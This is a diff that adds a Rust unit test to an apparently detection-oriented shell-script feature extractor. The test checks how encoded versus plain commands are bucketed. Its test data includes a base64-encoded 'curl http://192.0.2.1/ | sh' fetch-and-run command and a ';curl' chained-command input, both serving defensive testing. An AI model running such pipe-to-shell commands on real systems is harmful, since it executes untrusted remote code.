@@ -504,6 +504,20 @@ mod tests {
     }
 
     #[test]
+    fn what_was_done_before_a_layer_does_not_go_on_in_it() {
+        let pair = |layer: &str| {
+            let joined = words::canonical(b"curl", None) ^ words::hash(layer.as_bytes(), 0).rotate_left(17);
+            i64::from(bucket(Kind::Pair, words::canonical(b"x", None), joined))
+        };
+        // `curl http://192.0.2.1/ | sh`, printed.
+        let found = ids("id x\necho Y3VybCBodHRwOi8vMTkyLjAuMi4xLyB8IHNo");
+        assert!(found.contains(&i64::from(bucket(Kind::Layer, 0, 0))));
+        assert!(!found.contains(&pair("\u{e}")));
+        // But in a statement of the same text.
+        assert!(ids("id x\necho y\n;curl z").contains(&pair(";")));
+    }
+
+    #[test]
     fn long_scripts_have_windows_that_reach_the_end() {
         let mut extractor = Extractor::default();
         extractor.extract("echo word\n".repeat(2000).as_bytes());
